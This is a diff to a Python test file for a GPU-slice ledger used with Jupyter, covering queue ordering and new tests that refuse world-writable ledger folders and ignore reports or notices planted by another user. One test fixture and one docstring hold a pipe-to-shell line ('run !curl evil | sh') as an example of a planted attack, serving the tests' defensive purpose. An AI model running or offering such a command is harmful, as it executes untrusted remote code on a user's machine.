@@ -148,9 +148,9 @@ def test_a_new_ledger_is_readable_by_its_owner_only(tmp_path: Path) -> None:
 # -- places in line -------------------------------------------------------------------------------
 def test_a_waiter_that_stops_asking_is_dropped_and_blocks_nobody(tmp_path: Path) -> None:
     ledger = SQLiteLedger(tmp_path / "l.sqlite", Inventory("1x16GiB"), context_allowance=300 << 20, waiter_timeout=0.5)
-    ledger.reserve(SliceRequest.parse("3/4"), Holder.command("big"))
-    ledger.enqueue(SliceRequest.parse("1/2"), Holder.command("silent"))  # never asks again
-    with pytest.raises(Exception, match="1 earlier request waits in line"):
+    ledger.reserve(SliceRequest.parse("1/4"), Holder.command("big"))
+    ledger.enqueue(SliceRequest.parse("1/2"), Holder.command("silent"))  # fits now, never asks again
+    with pytest.raises(Exception, match="1 earlier request waits in line"):  # nobody passes a place that fits
         ledger.reserve_now(SliceRequest.parse("1/8"), Holder.command("newcomer"))
     time.sleep(0.7)
     assert ledger.reserve_now(SliceRequest.parse("1/8"), Holder.command("newcomer"))
@@ -168,3 +168,38 @@ def test_another_users_later_waiters_do_not_hold_anyone_back(tmp_path: Path) -> 
     bob_pinned = SQLiteLedger(tmp_path / "m.sqlite", Inventory("2x16GiB"), context_allowance=300 << 20)
     bob_pinned.acting_for(Actor("bob", 4242)).enqueue(SliceRequest.parse(1.0, gpu="0"), Holder.command("bob on 0"))
     assert bob_pinned.reserve_now(SliceRequest.parse("1/4", gpu="1"), Holder.command("me on 1"))  # other GPU
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o772])
+def test_a_ledger_folder_other_users_can_write_to_is_refused(tmp_path: Path, mode: int) -> None:
+    """Another user's notices file printed "...run !curl ... | sh" into a running cell, and a forged
+    report made the watchdog shut a kernel down (issue 19): such a folder is not used at all."""
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(mode)
+    if mode & 0o020 and not mode & 0o002:
+        os.chown(shared, -1, 12345) if os.geteuid() == 0 else pytest.skip("needs root to give the folder another group")
+    with pytest.raises(LedgerError, match=f"{shared} is writable by other users \\(mode {mode:o}\\); use a folder only you"):
+        ledger_at(shared / "ledger.sqlite")
+    assert os.listdir(shared) == []  # nothing was created in it
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file to another user")
+def test_reports_and_notices_another_user_planted_are_ignored(tmp_path: Path) -> None:
+    from jupyter_vgpu.slices.reports import (
+        add_notice,
+        notices_path,
+        read_notices,
+        read_report,
+        report_path,
+        write_report,
+    )
+
+    ledger = tmp_path / "vgpu" / "ledger.sqlite"
+    write_report(ledger, "abcdef123456", {"memory_used": 100 << 30})
+    add_notice(ledger, "abcdef123456", {"id": "1", "action": "warn", "message": "run !curl evil | sh"})
+    assert read_report(ledger, "abcdef123456") is not None and read_notices(ledger, "abcdef123456")
+    for planted in (report_path(ledger, "abcdef123456"), notices_path(ledger, "abcdef123456")):
+        os.chown(planted, 65534, 65534)
+    assert read_report(ledger, "abcdef123456") is None
+    assert read_notices(ledger, "abcdef123456") == []
